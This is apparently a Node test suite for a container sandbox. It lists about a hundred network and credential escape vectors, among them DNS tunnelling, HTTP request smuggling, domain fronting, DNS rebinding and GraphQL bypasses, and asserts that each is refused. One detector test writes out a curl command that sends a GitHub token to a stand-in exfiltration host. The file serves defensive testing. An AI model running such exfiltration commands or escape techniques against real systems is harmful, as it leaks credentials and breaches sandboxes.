/**
 * Escape suite, network and credential half (issue 9): every vector runs inside `airlock run` on real Podman as the
 * untrusted command and tries to get a canary out (the real GH_TOKEN behind its surrogate, the real AWS key) or to
 * reach blocked content. The listeners on this machine record every byte they receive; a vector passes only when
 * its own outcome is the refusal the sandbox promises AND nothing it did reached a listener it must not reach.
 * Afterwards the sandbox's environment, /proc and root file system are searched for every canary.
 *
 * Run after `npm run build`: node --import tsx --test --test-concurrency=1 test/escape/network-and-credential-escapes.test.ts
 */
import assert from 'node:assert/strict';
import { readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  ESCAPE_ENGINES,
  canariesIn,
  containsSecret,
  dumpScript,
  listenerViolations,
  runInSandbox,
  startEscapeFixture,
  removeEscapeFixture,
  vectorTests,
  type EscapeFixture,
  type Recorder,
  type SandboxRun,
  type VectorTable,
} from './fixture.js';

/** Vector → the only outcome the sandbox may produce. `proxy` stands for the proxy's address. */
const VECTORS: VectorTable = {
  dns_long_labels: { expect: 'rcode0:an1:proxy', why: 'answered locally with the proxy address, never forwarded' },
  dns_system_resolver: {
    expect: 'rcode0:an1:proxy',
    why: 'the configured resolver (Docker: its embedded one) answers the proxy address',
  },
  dns_txt: { expect: 'rcode0:an0', why: 'no TXT data exists to carry anything back' },
  dns_any: { expect: 'rcode0:an0', why: 'ANY gets an empty answer' },
  dns_aaaa: { expect: 'rcode0:an0', why: 'no IPv6 answers' },
  dns_tcp: { expect: 'rcode0:an1:proxy', why: 'TCP DNS is answered by the same responder, never forwarded' },
  dns_other_resolvers_udp: { expect: 'no_answer', why: 'no route to any other resolver' },
  dns_other_resolvers_tcp: { expect: 'no_answer', why: 'no route to any other resolver' },
  direct_ip_tcp: { expect: 'unreachable', why: 'the internal network has no route to the host' },
  proxy_ip_literal_https: { expect: 'handshake_failed', why: 'no SNI, no certificate' },
  host_ip_literal_via_proxy: { expect: '403:host_not_allowed', why: 'an IP literal is a host like any other' },
  proxy_other_ports: { expect: '53,80,443', why: 'the proxy listens on nothing else' },
  udp_direct: { expect: 'replies0', why: 'UDP has no route out and no listener on the proxy' },
  icmp: { expect: /^(no_reply|no_socket)$/, why: 'ICMP has no route out' },
  raw_socket: { expect: 'denied', why: 'NET_RAW dropped' },
  packet_socket: { expect: 'denied', why: 'NET_RAW dropped' },
  ipv6: { expect: 'disable_ipv6=1:unreachable', why: 'IPv6 disabled in the sandbox' },
  rebind_to_loopback: {
    expect: '403:upstream_address_not_allowed',
    why: 'an allowed name resolving to loopback is refused (SSRF / DNS rebinding guard)',
  },
  rebind_to_host: {
    expect: '403:upstream_address_not_allowed',
    why: "an allowed name resolving to the runner's own address is refused",
  },
  rebind_to_zero: { expect: '403:upstream_address_not_allowed', why: 'likewise 0.0.0.0' },
  rebind_to_usermode_host: {
    expect: '403:upstream_address_not_allowed,403:upstream_address_not_allowed',
    why: "likewise the host's rootless aliases (slirp4netns 10.0.2.2, pasta 169.254.1.2)",
  },
  connect_http: { expect: '403:connect_not_allowed', why: 'no tunnels' },
  connect_https: { expect: '403:connect_not_allowed', why: 'no tunnels, inside TLS either' },
  absolute_form_https: { expect: '403:host_mismatch', why: 'target authority must equal Host' },
  absolute_form_http: { expect: '403:host_mismatch', why: 'target authority must equal Host' },
  absolute_form_userinfo: { expect: '403:host_mismatch', why: 'userinfo in the authority is refused' },
  sni_host_mismatch: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
  sni_blocked_host_allowed: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
  no_sni: { expect: 'handshake_failed', why: 'no SNI, no certificate' },
  domain_fronting_curl: { expect: '403:host_mismatch', why: 'SNI must equal Host' },
  host_port_override: {
    expect: '403:port_mismatch',
    why: 'a port in Host other than the one connected to is refused, even for a name mapped with a port',
  },
  port_steer_https: {
    expect: '403:port_mismatch',
    why: 'a name mapped without a port: Host naming another port (a scoped secret riding along) is refused, never followed',
  },
  port_steer_http: { expect: '403:port_mismatch', why: 'the same over plain HTTP' },
  port_steer_absolute: { expect: '403:port_mismatch', why: 'the same as an absolute-form target' },
  declared_port_https: { expect: '200', why: 'an entry naming a port opens it: the proxy listens there (TLS)' },
  declared_port_http: { expect: '200', why: 'plain HTTP on the same declared port' },
  declared_port_default: { expect: '403:port_not_allowed', why: 'that entry does not open the default port' },
  connection_content_length: {
    expect: '400:connection_header_not_allowed',
    why: 'Connection may not name Content-Length: the body is never left unframed to be read as a second request',
  },
  connection_capture: {
    expect: '400:connection_header_not_allowed,200',
    why: 'a smuggled unfinished POST never reaches the pool to capture the next request and its real token',
  },
  connection_host: { expect: '400:connection_header_not_allowed', why: 'Connection may not name Host' },
  connection_transfer_encoding: {
    expect: '400:connection_header_not_allowed',
    why: 'Connection may not name Transfer-Encoding',
  },
  h2c_upgrade_allowed_host: {
    expect: '403:upgrade_not_allowed',
    why: 'h2c is never forwarded, even to an allowed host (its streams would pick their own hosts)',
  },
  websocket_fake_accept: {
    expect: '502',
    why: 'a 101 without the Sec-WebSocket-Accept for the key sent: nothing is piped, the smuggled request goes nowhere',
  },
  websocket_real_accept: { expect: '101', why: 'a genuine accept is relayed (proves the path works)' },
  encoded_traversal: { expect: '403:invalid_path', why: 'decoded `..` segment' },
  plain_traversal: { expect: '403:invalid_path', why: '`..` segment' },
  nul_in_path: { expect: '403:invalid_path', why: 'NUL after decoding' },
  backslash_path: { expect: '403:invalid_path', why: 'backslash after decoding' },
  path_outside_prefix: { expect: '403:path_not_allowed', why: 'outside /api/*' },
  cl_te_conflict: { expect: /^400(:bad_request)?$/, why: 'Content-Length beside Transfer-Encoding is malformed' },
  te_obfuscated: { expect: /^400(:bad_request)?$/, why: 'unknown or malformed Transfer-Encoding is malformed' },
  obs_fold_host: { expect: /^400(:bad_request)?$/, why: 'obsolete line folding is malformed' },
  duplicate_host: { expect: '400:bad_request', why: 'exactly one Host' },
  pipelined_second_host: {
    expect: '200,403:host_mismatch,403:path_not_allowed',
    why: 'each pipelined request on one connection is judged on its own',
  },
  h2_prior_knowledge: { expect: /^(400(:bad_request)?|no_response)$/, why: 'HTTP/2 without negotiation is not spoken' },
  h2_alpn: { expect: /^(alpn=None|handshake_failed)$/, why: 'only http/1.1 is offered in ALPN' },
  h2c_upgrade_blocked: { expect: '403:host_not_allowed', why: 'an h2c upgrade is admitted like a request' },
  nul_in_host: { expect: /^400(:bad_request)?$/, why: 'a NUL byte in a header is malformed' },
  pipelined_http_hosts: {
    expect: '200,200,403:host_not_allowed',
    why: 'plain HTTP, three hosts on one connection: each routed to its own upstream and judged alone',
  },
  trace_echo: { expect: '403:trace_not_allowed', why: 'TRACE would echo the real credential' },
  track_echo: {
    expect: /^(403:trace_not_allowed|400:bad_request)$/,
    why: 'TRACK is refused (not even a method to the parser)',
  },
  redirect_to_blocked: { expect: '302,403:host_not_allowed', why: 'the redirect is a new request, judged again' },
  websocket_blocked: { expect: '403:host_not_allowed', why: 'an upgrade is admitted like a request' },
  websocket_host_swap: { expect: '403:host_mismatch', why: 'an upgrade is admitted like a request' },
  graphql_positive_control: { expect: '200', why: 'a listed query passes (proves the path is reachable)' },
  graphql_mutation: { expect: '403:graphql_operation_blocked', why: 'the entry lists no mutations' },
  graphql_alias: { expect: '403:graphql_operation_blocked', why: 'aliases do not count: the field is judged' },
  graphql_fragment: { expect: '403:graphql_operation_blocked', why: 'a top-level named fragment is refused' },
  graphql_batched: { expect: '403:graphql_operation_blocked', why: 'batches (JSON arrays) are refused' },
  graphql_operation_name: { expect: '403:graphql_operation_blocked', why: 'operationName picks the mutation' },
  graphql_gzip: { expect: '403:graphql_operation_blocked', why: 'judged after undoing Content-Encoding' },
  graphql_unknown_encoding: { expect: '403:graphql_operation_blocked', why: 'a body it cannot read is refused' },
  graphql_websocket: { expect: '403:graphql_operation_blocked', why: 'frames after an upgrade cannot be judged' },
  tool_web_fetch_domains: { expect: '200', why: 'attacker.test is cut from allowed_domains before it leaves' },
  tool_web_fetch_unrestricted: { expect: '200', why: 'a tool without allowed_domains gets an empty list' },
  tool_wildcard_domain: { expect: '403:wildcard_tool_domain_unsupported', why: 'patterns cannot be narrowed' },
  tool_blocklist: { expect: '403:blocklist_tool_config_unsupported', why: 'a blocklist cannot be narrowed' },
  masked_positive_control: { expect: '200', why: 'in scope: the real value is sent (proves the detector works)' },
  surrogate_in_query: { expect: '200', why: 'the surrogate travels on unchanged in a query' },
  surrogate_in_body: { expect: '200', why: 'bodies are never rewritten' },
  surrogate_in_other_header: { expect: '200', why: 'only the named header is rewritten' },
  surrogate_out_of_scope: { expect: '200', why: 'out of scope: the surrogate travels on' },
  surrogate_plain_http_in_scope: { expect: '200', why: 'real values only over HTTPS' },
  duplicate_authorization: { expect: '200', why: 'collapsed to the single credential' },
  authorization_list: { expect: '200', why: 'a surrogate with other content is stripped, never partly swapped' },
  basic_surrogate_user_attacker_password: { expect: '200', why: 'stripped: the attacker password would ride along' },
  basic_userinfo_out_of_scope: { expect: '200', why: 'out of scope: the surrogate travels on' },
  host_case_and_dot: { expect: '200', why: 'allowed.test however spelled; the real value only goes there' },
  aws_positive_control: { expect: '200', why: 'in scope: re-signed with the real key (proves the detector works)' },
  aws_presigned_in_scope: { expect: '200', why: 'in scope: re-signed' },
  aws_presigned_out_of_scope: { expect: '200', why: 'out of scope: the surrogate key id travels on' },
  aws_signed_out_of_scope: { expect: '200', why: 'out of scope: the surrogate signature travels on' },
  aws_signed_for_scope_sent_elsewhere: { expect: '200', why: 'judged by the host it is sent to' },
  echo_body: { expect: '200:own', why: 'a scoped host echoing the request in its body hands back the surrogate' },
  echo_basic: { expect: '200:own', why: 'an echoed Basic blob comes back exactly as the sandbox encoded it' },
  echo_header: { expect: '200:own', why: 'echoed in response headers: scrubbed there too' },
  echo_gzip: { expect: '200:own', why: 'gzip sent anyway is decoded, scrubbed and re-encoded' },
  echo_chunked: { expect: '200:own', why: 'echoed five bytes at a time: matched across chunk boundaries' },
  aws_echo_signed: { expect: '200:own', why: 'the echoed Authorization carries the surrogate key id and signature' },
  aws_echo_presigned: { expect: '200:own', why: 'an echoed presigned URL is the one the sandbox signed' },
};

for (const engine of ESCAPE_ENGINES) {
  describe(`escape vectors: network and credentials (${engine})`, () => {
    let fixture: EscapeFixture;
    let run: SandboxRun;
    const dumpDir = '.escape-dump-network';

    before(async () => {
      fixture = await startEscapeFixture(engine);
      const script = [
        `ECHO_DUMP_DIR=${dumpDir}/echoed python3 probes/network_vectors.py ${Object.keys(VECTORS).join(' ')}`,
        dumpScript(dumpDir),
      ].join('\n');
      run = await runInSandbox(fixture, script);
    });

    after(() => removeEscapeFixture(fixture));

    vectorTests(VECTORS, () => ({ fixture, run }));

    it('positive controls: the real values did arrive where they belong, so the detectors can see them', () => {
      const allowed = fixture.recorders.allowed.requests.find((q) => q.url === '/api/control');
      assert.ok(allowed, 'the control request reached allowed.test');
      const auth = allowed.headers.filter(([n]) => n.toLowerCase() === 'authorization');
      assert.deepEqual(
        auth.map(([, v]) => v),
        [`Bearer ${fixture.canaries.ghToken}`],
      );
      const aws = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/control'));
      assert.ok(aws, 'the signed control request reached s3.aws.test');
      assert.ok(containsSecret(aws.headers.map(([n, v]) => `${n}: ${v}`).join('\n'), fixture.canaries.awsKeyId));
      const presigned = fixture.recorders.aws.requests.find((q) => q.url.startsWith('/bucket/presigned'));
      assert.ok(presigned && containsSecret(presigned.url, fixture.canaries.awsKeyId), 'presigned URL re-signed');
    });

    it('surrogates outside their one place reach the upstream unchanged, never as the real value', () => {
      const { allowed, exfil } = fixture.recorders;
      const surrogateSeen = (url: string, recorder = allowed) => recorder.requests.find((q) => q.url.startsWith(url));
      const query = surrogateSeen('/api/q');
      assert.ok(query && !containsSecret(query.url, fixture.canaries.ghToken) && /token=ghp_/.test(query.url));
      const body = surrogateSeen('/api/body');
      assert.ok(body && body.body.toString().startsWith('token=ghp_'));
      assert.ok(!containsSecret(body.body, fixture.canaries.ghToken));
      const plain = surrogateSeen('/api/plain');
      assert.ok(plain, 'plain HTTP request reached allowed.test');
      assert.ok(!containsSecret(plain.headers.map(([, v]) => v).join('\n'), fixture.canaries.ghToken));
      const dup = surrogateSeen('/api/dup-auth');
      assert.deepEqual(
        dup?.headers.filter(([n]) => n.toLowerCase() === 'authorization').map(([, v]) => v),
        [`Bearer ${fixture.canaries.ghToken}`],
        'two Authorization headers collapse to the one real credential: ATTACKER never rides along',
      );
      for (const url of ['/api/auth-list', '/api/basic-swap']) {
        const q = surrogateSeen(url);
        assert.ok(q, url);
        assert.deepEqual(
          q.headers.filter(([n]) => n.toLowerCase() === 'authorization'),
          [],
          `${url}: a surrogate with other content is stripped`,
        );
      }
      const collect = surrogateSeen('/collect', exfil);
      assert.ok(collect && /Bearer ghp_/.test(collect.headers.map(([, v]) => v).join('\n')));
    });

    it('no smuggled or refused request reached any upstream, and nothing reached blocked.test, attacker.test or the raw listeners', () => {
      assert.deepEqual(listenerViolations(fixture), []);
      for (const r of Object.values(fixture.recorders)) {
        assert.ok(!r.requests.some((q) => q.url.includes('smuggled')), `${r.name} saw a smuggled request`);
      }
      // Only the GraphQL positive control reached /graphql; every refused operation stayed in the proxy.
      const graphqlSeen = Object.values(fixture.recorders).flatMap((r) =>
        r.requests.filter((q) => q.url === '/graphql'),
      );
      assert.equal(graphqlSeen.length, 1, JSON.stringify(graphqlSeen));
      // The two narrowed tool requests arrived, with only exfil.test (open for GET) left, and nothing else did.
      const toolBodies = fixture.recorders.anthropic.chunks.map((c) => c.bytes.toString('latin1')).join('');
      assert.equal(fixture.recorders.anthropic.requests.length, 2);
      assert.match(toolBodies, /"allowed_domains":\["exfil\.test"\]/);
      assert.match(toolBodies, /"allowed_domains":\[\]/);
    });

    it('echoing hosts received the real values, and what they sent back holds none of them in any encoding', async () => {
      const echoed = (recorder: Recorder, prefix: string) => recorder.requests.filter((q) => q.url.startsWith(prefix));
      const toAllowed = echoed(fixture.recorders.allowed, '/api/echo');
      assert.equal(toAllowed.length, 5);
      for (const q of toAllowed) {
        assert.ok(containsSecret(q.headers.map(([, v]) => v).join('\n'), fixture.canaries.ghToken), q.url);
      }
      const toAws = echoed(fixture.recorders.aws, '/bucket/echo');
      assert.equal(toAws.length, 2);
      for (const q of toAws) {
        assert.ok(containsSecret(q.url + q.headers.map(([, v]) => v).join('\n'), fixture.canaries.awsKeyId), q.url);
      }
      const dir = path.join(fixture.workspace, dumpDir, 'echoed');
      assert.equal((await readdir(dir)).length, 7, 'every echo vector dumped what it received');
      assert.deepEqual(await canariesIn(dir, fixture.canaries), []);
    });

    it('no canary anywhere in the sandbox (blocked content, real secrets): env, every process environ/cmdline, root file system, output', async () => {
      for (const secret of Object.values(fixture.canaries)) assert.ok(!containsSecret(run.stdout, secret));
      assert.deepEqual(await canariesIn(path.join(fixture.workspace, dumpDir), fixture.canaries), []);
    });

    it('the detectors catch a leak: under a deliberately leaky policy every kind of violation is reported', async () => {
      const leaky = await startEscapeFixture(engine);
      try {
        // Scope the token to the attacker's host, hand the real value to the sandbox, allow the blocked host.
        await writeFile(
          path.join(leaky.workspace, '.airlock/sandbox.yaml'),
          leaky.sandboxYaml.replace('scopes: [allowed.test, steer.test]', 'scopes: [allowed.test, exfil.test]') +
            '  LEAKED: !env GH_TOKEN\n',
        );
        await writeFile(
          path.join(leaky.workspace, '.airlock/network-allowlist.yaml'),
          leaky.allowlistYaml + '  - {host: blocked.test}\n',
        );
        const r = await runInSandbox(
          leaky,
          [
            'curl -s https://blocked.test/content',
            'curl -s -o /dev/null -H "Authorization: Bearer $GH_TOKEN" https://exfil.test/collect',
            dumpScript('.dump'),
          ].join('\n'),
        );
        assert.equal(r.code, 0, r.stderr);
        const seen = listenerViolations(leaky).map((v) => v.what);
        assert.ok(seen.includes('a connection reached blocked.test'), JSON.stringify(seen));
        assert.ok(seen.includes('real GH_TOKEN at exfil.test'), JSON.stringify(seen));
        assert.ok(containsSecret(r.stdout, leaky.canaries.blockedContent));
        const found = await canariesIn(path.join(leaky.workspace, '.dump'), leaky.canaries);
        assert.ok(
          found.some((f) => f.startsWith('GH_TOKEN real value in') && f.endsWith('env.txt')),
          JSON.stringify(found),
        );
      } finally {
        await removeEscapeFixture(leaky);
      }
    });
  });
}
